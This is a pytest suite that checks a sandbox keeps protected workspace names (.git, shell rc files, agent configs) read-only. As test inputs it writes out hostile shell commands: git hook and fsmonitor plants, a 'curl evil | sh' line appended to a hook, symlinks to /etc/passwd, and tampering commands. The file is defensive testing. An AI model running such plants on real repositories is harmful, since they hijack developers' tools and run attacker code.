"""Protected names at the workspace top level (docs/security.md, "protected names").

`.git .a3s .agents .codex .claude .vscode .idea`, the agents' `.cursor .gemini
.roo .kiro .continue .windsurf .amazonq .cline`, and `.gitmodules .mcp.json
.ripgreprc .bashrc .bash_profile .zshrc .zprofile .profile .cursorrules
.windsurfrules .clinerules .roomodes .roorules .continuerc.json` (exact spellings),
and the real gitdir of a worktree when it is inside the workspace, are
read-only inside; a missing name is kept missing inside the sandbox (every call that
would make it is refused: test_fs_names.py), or, on the fallback, held by a placeholder; a
symlink at a protected name, a protected file with extra hard links, or a
symlinked workspace refuses the run. Another spelling (`.GIT`) is an ordinary
name on a case-sensitive file system (test_fs_hostile_names.py).
Every check is made on the host after the run. Only the top level is promised:
a nested repository's .git is ordinary workspace content.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from codeward._errors import SandboxArgumentError, SandboxUnavailable
from codeward.sandbox import NativeBashSandbox, select_sandbox
from protectednames import ALL_PROTECTED, PROTECTED_DIRS

GIT = shutil.which("git")
needs_git = pytest.mark.skipif(GIT is None, reason="git is not installed")


def _git(*args: str, cwd: Path) -> str:
    env = {
        **os.environ,
        "GIT_CONFIG_NOSYSTEM": "1",
        "HOME": str(cwd),
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
    }
    return subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True
    ).stdout


def _make_repo(path: Path) -> None:
    path.mkdir(exist_ok=True)
    _git("init", "-q", "-b", "main", ".", cwd=path)
    (path / "tracked.txt").write_text("v1\n")
    _git("add", "tracked.txt", cwd=path)
    _git("commit", "-q", "-m", "first", cwd=path)
    (path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    os.chmod(path / ".git" / "hooks" / "pre-commit", 0o755)


@pytest.fixture
def ws(fs_host_dir: Path) -> Path:
    path = fs_host_dir / "ws"
    path.mkdir()
    (path / "README").write_text("workspace\n")
    return path


def _populate(ws: Path, name: str) -> None:
    if name in PROTECTED_DIRS:
        (ws / name).mkdir()
        (ws / name / "f.txt").write_text(f"original {name}\n")
        (ws / name / "sub").mkdir()
        (ws / name / "sub" / "g.txt").write_text("nested\n")
    else:
        (ws / name).write_text(f"original {name}\n")


PY = "/usr/bin/python3 -I -S" if os.access("/usr/bin/python3", os.X_OK) else "python3 -I -S"

# The same changes through Python's own calls (no shell redirection involved).
_PY_TAMPER = """
import os, shutil, sys
n = sys.argv[1]
ops = [
    lambda: os.chmod(n, 0o777),
    lambda: os.utime(n, (0, 0)),
    lambda: os.rename(n, n + ".py"),
    lambda: shutil.rmtree(n) if os.path.isdir(n) else os.unlink(n),
    lambda: os.truncate(n, 0),
    lambda: open(n, "r+").write("evil"),
    lambda: open(os.path.join(n, "f.txt"), "w").write("evil"),
    lambda: os.truncate(os.path.join(n, "f.txt"), 0),
    lambda: os.unlink(os.path.join(n, "f.txt")),
    lambda: os.mkdir(os.path.join(n, "hooks")),
    lambda: os.symlink("/etc", os.path.join(n, "lnk")),
]
for op in ops:
    try:
        op()
        print("CHANGED?", op)
    except OSError:
        pass
"""


def _tamper(name: str) -> str:
    """Every way to change `name` (a file or a directory), each allowed to fail."""
    q = shlex.quote
    n = q(name)
    common = (
        f"chmod 777 {n}; chmod 000 {n}; chown 1:1 {n}; touch -d 2001-01-01 {n}; "
        f"mv {n} {q(name + '.moved')}; rm -rf {n}; {PY} -c {q(_PY_TAMPER)} {n}; "
    )
    if name in PROTECTED_DIRS:
        return common + (
            f"echo evil >> {n}/f.txt; : > {n}/f.txt; truncate -s 0 {n}/sub/g.txt; "
            f"rm -f {n}/f.txt; mv {n}/f.txt {n}/h.txt; chmod 777 {n}/f.txt; "
            f"touch {n}/new; mkdir {n}/newdir {n}/hooks; ln -s /etc {n}/lnk; "
            f"rm -rf {n}/sub; mv {n}/sub {n}/sub2"
        )
    return common + (
        f"echo evil >> {n}; echo evil > {n}; : > {n}; truncate -s 0 {n}; "
        f"sed -i s/original/evil/ {n}; cp README {n}"
    )


@pytest.mark.parametrize("landlock", [True, False], ids=["landlock", "no-landlock"])
@pytest.mark.parametrize("name", ALL_PROTECTED)
def test_existing_protected_name_cannot_be_modified_truncated_deleted_renamed_or_chmodded(
    name, landlock, ws, fs, fs_sandbox
):
    _populate(ws, name)
    before = fs.snapshot(ws / name)
    out = fs.run(fs_sandbox(ws, landlock=landlock), _tamper(name) + "; echo ATTEMPTED")
    assert "ATTEMPTED" in out.stdout
    assert fs.diff(before, fs.snapshot(ws / name)) == [], out
    leftovers = sorted(p.name for p in ws.iterdir() if p.name.startswith(name + "."))
    assert leftovers == [], out


@pytest.mark.parametrize("name", ALL_PROTECTED)
def test_missing_protected_name_is_blocked_during_run_and_gone_afterwards(
    name, ws, fs, fs_sandbox, fs_names_emulated
):
    before = fs.snapshot(ws)
    n = shlex.quote(name)
    if name in PROTECTED_DIRS:
        attack = (
            f"mkdir -p {n}/hooks; echo evil > {n}/config; "
            f"printf '#!/bin/sh\\nid\\n' > {n}/hooks/pre-commit; rm -rf {n}; mkdir {n}; "
            f"mv {n} x; mkdir {n}; echo evil > {n}/settings.json"
        )
    else:
        attack = f"echo evil > {n}; echo evil >> {n}; rm -f {n}; ln -s /etc/passwd {n}"
    out = fs.run(fs_sandbox(ws), f"test -e {n} && echo HELD; {attack}; echo ATTEMPTED")
    assert "ATTEMPTED" in out.stdout
    # a placeholder holds it on the fallback; with the emulation it stays missing inside too
    assert ("HELD" in out.stdout) == (not fs_names_emulated), out
    assert not os.path.lexists(ws / name), out
    # the workspace's own mtime moves (placeholders come and go); its entries must not
    assert fs.diff(before, fs.snapshot(ws)) in ([], ["changed mtime: ."]), out


@pytest.mark.parametrize("variant", [".GIT", ".Vscode", ".Bashrc"])
def test_another_spelling_is_ordinary_and_the_exact_name_stays_protected(
    variant, ws, fs, fs_sandbox, fs_names_emulated
):
    """On a case-sensitive file system `.GIT` is not `.git`: git, editors and shells never
    read it, so it is an ordinary, writable name (a protection there could only be made
    by a command, and then held against it); the exact name keeps its protection."""
    exact = variant.lower()
    (ws / variant).mkdir()
    out = fs.run(
        fs_sandbox(ws),
        f"echo x > {variant}/f && echo WROTE; test -e {exact} && echo HELD; "
        f"echo evil > {exact}/f 2>/dev/null || echo READ-ONLY",
    )
    # the missing exact name: held by a placeholder on the fallback, missing with the emulation
    held = "" if fs_names_emulated else "HELD\n"
    assert out.stdout == f"WROTE\n{held}READ-ONLY\n", out
    assert (ws / variant / "f").read_text() == "x\n"
    assert not os.path.lexists(ws / exact)


GIT_PLANTS = {
    "local-config": "git config user.name evil; git config core.editor 'touch /tmp/pwn'",
    "fsmonitor": "git config core.fsmonitor 'touch /tmp/pwn'",
    "hooks-path": "git config core.hooksPath $PWD/myhooks",
    "pre-commit-hook": (
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; cp /bin/true .git/hooks/post-checkout"
    ),
    "config-file-overwrite": "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config",
    "info-and-refs": (
        "echo '*' > .git/info/exclude; echo evil > .git/description; "
        "echo 0000000000000000000000000000000000000000 > .git/refs/heads/main"
    ),
    "commit-tag-gc": (
        "echo v2 > tracked.txt; git add tracked.txt; "
        "git -c user.name=a -c user.email=a@b commit -q -m evil; git tag evil; "
        "git branch evil; git gc -q; git update-index --refresh"
    ),
    "replace-git-dir": "mv .git .git.old; mkdir .git; git init -q .; rm -rf .git/hooks",
}


@needs_git
@pytest.mark.parametrize("plant", sorted(GIT_PLANTS))
def test_top_level_git_config_and_hooks_cannot_be_planted(plant, ws, fs, fs_sandbox):
    _make_repo(ws)
    (ws / "myhooks").mkdir()
    before = fs.snapshot(ws / ".git")
    out = fs.run(fs_sandbox(ws), GIT_PLANTS[plant] + "; echo ATTEMPTED")
    assert "ATTEMPTED" in out.stdout
    assert fs.diff(before, fs.snapshot(ws / ".git")) == [], out
    assert not (ws / ".git.old").exists()


@needs_git
def test_file_inside_top_level_git_with_extra_hard_link_cannot_be_written_through_alias(
    ws, fs, fs_sandbox
):
    """A pre-existing hard link in the workspace to .git/config or a hook must not be a
    writable back door into the protected .git (refusing the run would also do)."""
    _make_repo(ws)
    os.link(ws / ".git" / "hooks" / "pre-commit", ws / "hook-alias")
    os.link(ws / ".git" / "config", ws / "config-alias")
    before = fs.snapshot(ws / ".git")
    out = fs_sandbox(ws).exec(
        "printf 'curl evil | sh\\n' >> hook-alias; "
        "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> config-alias; echo ATTEMPTED"
    )
    assert out.setup_error is not None or "ATTEMPTED" in out.stdout
    assert fs.diff(before, fs.snapshot(ws / ".git")) == [], out


def _worktree(main_parent: Path, fs_host_dir: Path) -> tuple[Path, Path, Path]:
    """A real repository outside the workspace and the workspace as its worktree."""
    main = main_parent / "main"
    _make_repo(main)
    ws = fs_host_dir / "wt"
    _git("worktree", "add", "-q", "-b", "feature", str(ws), cwd=main)
    gitdir = Path((ws / ".git").read_text().split("gitdir:", 1)[1].strip())
    assert gitdir.is_dir() and gitdir.resolve().is_relative_to(main / ".git")
    return main, ws, gitdir


@needs_git
@pytest.mark.parametrize("main_in", ["tmp", "rootfs"])
def test_worktree_gitdir_and_git_file_are_read_only(main_in, fs_host_dir, tmp_path, fs, fs_sandbox):
    """The main repository in a tmp dir (its gitdir only reaches the sandbox through the
    read-only bind) and on the root file system (read-only anyway)."""
    main, ws, gitdir = _worktree(tmp_path if main_in == "tmp" else fs_host_dir, fs_host_dir)
    git_file_before = fs.snapshot(ws / ".git")
    main_git_before = fs.snapshot(main / ".git")
    g = shlex.quote(str(gitdir))
    c = shlex.quote(str(main / ".git"))
    out = fs.run(
        fs_sandbox(ws),
        f"echo evil > {g}/HEAD; echo '[core]' > {g}/config.worktree; rm -f {g}/index; "
        f"mkdir {g}/hooks; echo evil > {g}/commondir; "
        f"printf '#!/bin/sh\\n' > {c}/hooks/pre-commit; echo '[x]' >> {c}/config; "
        f"echo 'gitdir: /tmp/elsewhere' > .git; rm -f .git; "
        f"echo v2 > tracked.txt; git add tracked.txt; "
        f"git -c user.name=a -c user.email=a@b commit -q -m evil; git config user.name evil; "
        f"echo ATTEMPTED",
    )
    assert "ATTEMPTED" in out.stdout
    assert fs.diff(git_file_before, fs.snapshot(ws / ".git")) == [], out
    assert fs.diff(main_git_before, fs.snapshot(main / ".git")) == [], out


@needs_git
def test_worktree_gitdir_inside_the_workspace_is_bound_read_only(fs_host_dir, fs, fs_sandbox):
    """`.git` is a file naming a gitdir the workspace holds (the bare-repository layout):
    the gitdir is ordinary workspace content, writable unless the sandbox binds it."""
    ws = fs_host_dir / "ws"
    ws.mkdir()
    src = fs_host_dir / "src"
    _make_repo(src)
    _git("clone", "-q", "--bare", str(src), str(ws / "repo.git"), cwd=fs_host_dir)
    (ws / ".git").write_text("gitdir: ./repo.git\n")
    (ws / "repo.git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    before = fs.snapshot(ws / "repo.git")
    out = fs.run(
        fs_sandbox(ws),
        "printf '#!/bin/sh\\necho pwned\\n' > repo.git/hooks/pre-commit; "
        "echo '[core]' >> repo.git/config; git config core.fsmonitor 'touch /tmp/x'; "
        "rm -rf repo.git/refs; echo ATTEMPTED",
    )
    assert "ATTEMPTED" in out.stdout
    assert fs.diff(before, fs.snapshot(ws / "repo.git")) == [], out


SYMLINK_CASES = {
    ".bashrc->/etc/passwd": (".bashrc", "/etc/passwd"),
    ".profile->workspace-file": (".profile", "README"),
    ".mcp.json->dangling": (".mcp.json", "does-not-exist"),
    ".git->outside-dir": (".git", "../canary"),
    ".claude->workspace-dir": (".claude", "sub"),
}


@pytest.mark.parametrize("case", sorted(SYMLINK_CASES))
def test_symlink_at_protected_name_refuses_the_run(case, ws, fs, fs_sandbox):
    name, target = SYMLINK_CASES[case]
    (ws / "sub").mkdir()
    (ws.parent / "canary").mkdir()
    os.symlink(target, ws / name)
    before = fs.snapshot(ws.parent)
    out = fs_sandbox(ws).exec("touch ran; echo RAN")
    assert out.exit_code == 125, out
    assert out.setup_error and name in out.setup_error and "symlink" in out.setup_error, out
    assert "RAN" not in out.stdout
    assert fs.diff(before, fs.snapshot(ws.parent)) == [], "a refused run changed the host"


@pytest.mark.parametrize("outside", [False, True], ids=["alias-in-workspace", "alias-outside"])
@pytest.mark.parametrize("name", [".bashrc", ".mcp.json", ".gitmodules"])
def test_protected_file_with_extra_hard_link_refuses_the_run(name, outside, ws, fs, fs_sandbox):
    (ws / name).write_text("original\n")
    os.link(ws / name, (ws.parent if outside else ws) / "alias")
    before = fs.snapshot(ws.parent)
    out = fs_sandbox(ws).exec("echo evil >> alias; touch ran; echo RAN")
    assert out.exit_code == 125, out
    assert out.setup_error and "hard link" in out.setup_error, out
    assert "RAN" not in out.stdout
    assert fs.diff(before, fs.snapshot(ws.parent)) == []


def test_symlink_as_workspace_root_is_refused(fs_host_dir):
    real = fs_host_dir / "real"
    real.mkdir()
    link = fs_host_dir / "link"
    os.symlink(real, link)
    with pytest.raises(SandboxUnavailable, match="symlink"):
        NativeBashSandbox(link)
    with pytest.raises(SandboxArgumentError, match="symlink"):
        select_sandbox(link)
    assert os.listdir(real) == []


def test_workspace_replaced_by_symlink_after_construction_refuses_the_run(
    fs_host_dir, fs, fs_sandbox
):
    ws = fs_host_dir / "ws"
    ws.mkdir()
    sb = fs_sandbox(ws)
    target = fs_host_dir / "target"
    target.mkdir()
    ws.rename(fs_host_dir / "ws.orig")
    os.symlink(target, ws)
    before = fs.snapshot(fs_host_dir)
    out = sb.exec("touch ran; echo RAN")
    assert out.exit_code == 125 and out.setup_error, out
    assert "RAN" not in out.stdout
    assert fs.diff(before, fs.snapshot(fs_host_dir)) == []


@needs_git
def test_nested_git_is_ordinary_workspace_content_but_top_level_stays_protected(ws, fs, fs_sandbox):
    """Only the top level is promised: a nested repository works as usual inside."""
    _make_repo(ws)
    top_before = fs.snapshot(ws / ".git")
    nested = ws / "vendor" / "lib"
    nested.mkdir(parents=True)
    out = fs.run(
        fs_sandbox(ws),
        "cd vendor/lib && git init -q -b main . && echo hi > a.txt && git add a.txt && "
        "git -c user.name=a -c user.email=a@b commit -q -m one && "
        "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && git config user.name x && "
        "echo bashrc > .bashrc && echo NESTED-OK",
    )
    assert "NESTED-OK" in out.stdout, out
    assert (nested / ".git" / "hooks" / "pre-commit").exists()
    assert _git("log", "--format=%s", cwd=nested).strip() == "one"
    assert (nested / ".bashrc").read_text() == "bashrc\n"
    assert fs.diff(top_before, fs.snapshot(ws / ".git")) == []
